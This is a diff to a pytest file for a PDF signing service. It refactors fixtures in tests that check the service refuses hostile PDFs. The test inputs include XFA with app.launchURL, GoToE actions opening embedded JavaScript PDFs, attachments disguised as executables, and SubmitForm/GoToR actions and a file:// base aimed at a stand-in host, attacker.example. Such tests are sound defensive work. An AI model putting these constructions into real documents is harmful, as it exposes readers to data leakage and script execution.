@@ -17,25 +17,13 @@ from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
 
 from econnector import pdfpolicy, signer, signworker
 from econnector.errors import CATALOG
-from econnector.testid import TestIdentity, make_identity
+from econnector.testid import TestIdentity
 from econnector_testsupport.paths import DOCS
+from econnector_testsupport.signing import PC
 from econnector_testsupport.vault import unsigned_pdf
-
-PC = "90812100"
 
 Mutate = Callable[[IncrementalPdfFileWriter], None]
 N = generic.NameObject
-
-
-@pytest.fixture(scope="module")
-def ident(tmp_path_factory: pytest.TempPathFactory) -> TestIdentity:
-    return make_identity(tmp_path_factory.mktemp("id"), PC)
-
-
-@pytest.fixture
-def loaded(ident: TestIdentity) -> None:
-    signworker._SIGNERS.clear()
-    signworker.init_worker([(PC, str(ident.pkcs12), ident.passphrase_file.read_bytes().strip())], 0)
 
 
 # -- building the attacks -----------------------------------------------------------
@@ -227,25 +215,25 @@ def assert_delivered(data: bytes, tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("flate", [False, True], ids=["plain", "compressed"])
 @pytest.mark.parametrize("shape", ["array", "stream"])
-def test_xfa_with_javascript_is_refused(loaded: None, tmp_path: Path, shape: str,
+def test_xfa_with_javascript_is_refused(worker_signer: None, tmp_path: Path, shape: str,
                                         flate: bool) -> None:
     data = build(xfa(shape, flate))
     assert (b"app.launchURL" in data) is not flate
     assert_refused(data, tmp_path, "pdf-xfa")
 
 
-def test_xfa_in_an_object_stream_is_refused(loaded: None, tmp_path: Path) -> None:
+def test_xfa_in_an_object_stream_is_refused(worker_signer: None, tmp_path: Path) -> None:
     data = with_object_streams(build(xfa("array", False)), tmp_path)
     assert b"/XFA" not in data and b"app.launchURL" not in data
     assert_refused(data, tmp_path, "pdf-xfa")
 
 
-def test_xfa_without_scripts_is_refused_too(loaded: None, tmp_path: Path) -> None:
+def test_xfa_without_scripts_is_refused_too(worker_signer: None, tmp_path: Path) -> None:
     """Decision (docs/pdf-policy.md): any XFA is refused, not only XFA with scripts."""
     assert_refused(build(xfa("stream", True, XFA_PLAIN_TEMPLATE)), tmp_path, "pdf-xfa")
 
 
-def test_an_acroform_without_xfa_is_delivered(loaded: None, tmp_path: Path) -> None:
+def test_an_acroform_without_xfa_is_delivered(worker_signer: None, tmp_path: Path) -> None:
     assert_delivered(build(on_catalog("/AcroForm", lambda w: d(Fields=generic.ArrayObject()))),
                      tmp_path)
 
@@ -254,20 +242,20 @@ def test_an_acroform_without_xfa_is_delivered(loaded: None, tmp_path: Path) -> N
 
 
 @pytest.mark.parametrize("where", ["open-action", "link", "next-chain", "page-aa", "outline"])
-def test_gotoe_opening_an_embedded_pdf_is_refused(loaded: None, tmp_path: Path,
+def test_gotoe_opening_an_embedded_pdf_is_refused(worker_signer: None, tmp_path: Path,
                                                   where: str) -> None:
     data = build(embedded_pdf(where))
     assert b"/JavaScript" not in data  # the script is inside the compressed attachment
     assert_refused(data, tmp_path, "pdf-embedded-pdf-action")
 
 
-def test_gotoe_in_an_object_stream_is_refused(loaded: None, tmp_path: Path) -> None:
+def test_gotoe_in_an_object_stream_is_refused(worker_signer: None, tmp_path: Path) -> None:
     data = with_object_streams(build(embedded_pdf("open-action")), tmp_path)
     assert b"/GoToE" not in data
     assert_refused(data, tmp_path, "pdf-embedded-pdf-action")
 
 
-def test_an_embedded_pdf_without_gotoe_is_a_data_attachment(loaded: None,
+def test_an_embedded_pdf_without_gotoe_is_a_data_attachment(worker_signer: None,
                                                             tmp_path: Path) -> None:
     """Decision (docs/pdf-policy.md): embedded PDFs are not opened and checked; only
     an action that opens one is refused. A plain PDF annex is delivered."""
@@ -306,7 +294,7 @@ DANGEROUS = [
 
 
 @pytest.mark.parametrize("names", [n for _, n in DANGEROUS], ids=[i for i, _ in DANGEROUS])
-def test_dangerous_attachments_are_refused(loaded: None, tmp_path: Path,
+def test_dangerous_attachments_are_refused(worker_signer: None, tmp_path: Path,
                                            names: dict[str, generic.PdfObject]) -> None:
     out = assert_refused(build(attachment(names=names)), tmp_path, "pdf-embedded-executable")
     shown = out.params["name"]
@@ -314,7 +302,7 @@ def test_dangerous_attachments_are_refused(loaded: None, tmp_path: Path,
 
 
 @pytest.mark.parametrize("via", ["names", "annotation"])
-def test_dangerous_attachments_are_refused_wherever_they_are(loaded: None, tmp_path: Path,
+def test_dangerous_attachments_are_refused_wherever_they_are(worker_signer: None, tmp_path: Path,
                                                             via: str) -> None:
     data = build(attachment(via, F=s("invoice.exe."), UF=s("factur-x.xml")))
     assert_refused(data, tmp_path, "pdf-embedded-executable")
@@ -325,7 +313,7 @@ def test_dangerous_attachments_are_refused_wherever_they_are(loaded: None, tmp_p
     assert_refused(data, tmp_path, "pdf-embedded-executable")
 
 
-def test_a_dangerous_name_tree_key_is_refused(loaded: None, tmp_path: Path) -> None:
+def test_a_dangerous_name_tree_key_is_refused(worker_signer: None, tmp_path: Path) -> None:
     data = build(attachment(key="setup.exe", F=s("factur-x.xml"), UF=s("factur-x.xml")))
     assert_refused(data, tmp_path, "pdf-embedded-executable")
 
@@ -333,7 +321,7 @@ def test_a_dangerous_name_tree_key_is_refused(loaded: None, tmp_path: Path) -> N
 @pytest.mark.parametrize("name", ["factur-x.xml", "ZUGFeRD-invoice.xml", "annex.pdf",
                                   "Befund.docx", "scan.png", "notes.txt", "data.exe.xml",
                                   "exe", "README", "werte.csv"])
-def test_data_attachments_are_delivered(loaded: None, tmp_path: Path, name: str) -> None:
+def test_data_attachments_are_delivered(worker_signer: None, tmp_path: Path, name: str) -> None:
     assert_delivered(build(attachment(F=s(name), UF=s(name))), tmp_path)
 
 
@@ -383,7 +371,7 @@ REMOTE = [
 
 
 @pytest.mark.parametrize("act", [a for _, a in REMOTE], ids=[i for i, _ in REMOTE])
-def test_remote_actions_are_refused(loaded: None, tmp_path: Path,
+def test_remote_actions_are_refused(worker_signer: None, tmp_path: Path,
                                     act: generic.DictionaryObject) -> None:
     out = assert_refused(build(place("open-action", act)), tmp_path, "pdf-remote-action")
     assert out.params["action"] == str(act["/S"]).lstrip("/")
@@ -391,14 +379,14 @@ def test_remote_actions_are_refused(loaded: None, tmp_path: Path,
 
 @pytest.mark.parametrize("where", ["open-action", "catalog-aa", "page-aa", "link", "next-chain",
                                    "outline", "field-aa"])
-def test_remote_actions_are_refused_wherever_they_are(loaded: None, tmp_path: Path,
+def test_remote_actions_are_refused_wherever_they_are(worker_signer: None, tmp_path: Path,
                                                       where: str) -> None:
     act = action("/SubmitForm", F=s("\\\\attacker.example\\share\\x"))
     assert_refused(build(place(where, act)), tmp_path, "pdf-remote-action")
 
 
 @pytest.mark.parametrize("kind", ["/SubmitForm", "/ImportData", "/GoToR", "/URI"])
-def test_remote_actions_in_object_streams_are_refused(loaded: None, tmp_path: Path,
+def test_remote_actions_in_object_streams_are_refused(worker_signer: None, tmp_path: Path,
                                                       kind: str) -> None:
     key = "URI" if kind == "/URI" else "F"
     act = action(kind, **{key: s("\\\\attacker.example\\share\\x")})
@@ -407,12 +395,12 @@ def test_remote_actions_in_object_streams_are_refused(loaded: None, tmp_path: Pa
     assert_refused(data, tmp_path, "pdf-remote-action")
 
 
-def test_a_file_uri_base_is_refused(loaded: None, tmp_path: Path) -> None:
+def test_a_file_uri_base_is_refused(worker_signer: None, tmp_path: Path) -> None:
     data = build(on_catalog("/URI", lambda w: d(Base=s("file://attacker.example/share/"))))
     assert_refused(data, tmp_path, "pdf-remote-action")
 
 
-def test_a_javascript_uri_is_javascript(loaded: None, tmp_path: Path) -> None:
+def test_a_javascript_uri_is_javascript(worker_signer: None, tmp_path: Path) -> None:
     act = action("/URI", URI=generic.ByteStringObject(b" JavaScript:app.alert(1)"))
     assert_refused(build(place("link", act)), tmp_path, "pdf-javascript")
 
@@ -429,7 +417,7 @@ LOCAL = [
 
 
 @pytest.mark.parametrize("act", [a for _, a in LOCAL], ids=[i for i, _ in LOCAL])
-def test_local_and_web_actions_are_delivered(loaded: None, tmp_path: Path,
+def test_local_and_web_actions_are_delivered(worker_signer: None, tmp_path: Path,
                                              act: generic.DictionaryObject) -> None:
     assert_delivered(build(place("link", act)), tmp_path)
 
@@ -454,7 +442,7 @@ ESCAPED = [
 @pytest.mark.parametrize("make,plain,escaped,code", ESCAPED, ids=[e[2].decode().split("/")[-1]
                                                                    for e in ESCAPED])
 def test_attacks_behind_escaped_names_are_refused(
-    loaded: None, tmp_path: Path, make: Callable[[], bytes], plain: bytes, escaped: bytes,
+    worker_signer: None, tmp_path: Path, make: Callable[[], bytes], plain: bytes, escaped: bytes,
     code: str
 ) -> None:
     data = make()
@@ -484,7 +472,7 @@ def test_new_codes_are_documented() -> None:
         assert f"`{ext}`" in policy, ext
 
 
-def test_refusals_through_the_worker_pool(ident: TestIdentity, tmp_path: Path) -> None:
+def test_refusals_through_the_worker_pool(identity: TestIdentity, tmp_path: Path) -> None:
     """The same refusals from a real signing worker process."""
     import asyncio
 
@@ -499,7 +487,7 @@ def test_refusals_through_the_worker_pool(ident: TestIdentity, tmp_path: Path) -
     pool = signer.SigningPool(workers=1, memory_mb=1024, timeout=60.0)
 
     async def scenario() -> None:
-        pool.start([(PC, str(ident.pkcs12), ident.passphrase_file.read_bytes().strip())])
+        pool.start([(PC, str(identity.pkcs12), identity.passphrase_file.read_bytes().strip())])
         for name, (data, code) in cases.items():
             src = tmp_path / f"{name}.pdf"
             src.write_bytes(data)
@@ -514,7 +502,7 @@ def test_refusals_through_the_worker_pool(ident: TestIdentity, tmp_path: Path) -
 
 
 def test_the_daemon_refuses_each_attack_and_keeps_delivering(
-    ident: TestIdentity, tmp_path: Path
+    identity: TestIdentity, tmp_path: Path
 ) -> None:
     """Dropped as a vendor would, into the real daemon: each attack gets its error file
     (nothing signed or sent), and a good document dropped with them is delivered."""
@@ -527,7 +515,7 @@ def test_the_daemon_refuses_each_attack_and_keeps_delivering(
         "att-submit": (build(place("open-action", action(
             "/SubmitForm", F=s("\\\\attacker.example\\share\\x")))), "pdf-remote-action"),
     }
-    cfg = write_config(tmp_path / "practice", [(PC, ident)])
+    cfg = write_config(tmp_path / "practice", [(PC, identity)])
     with running_daemon(cfg) as dm:
         for i, (stem, (data, _)) in enumerate(cases.items()):
             drop(dm.outbox, stem, data, sidecar(f"ATT-{i}", provider=PC))
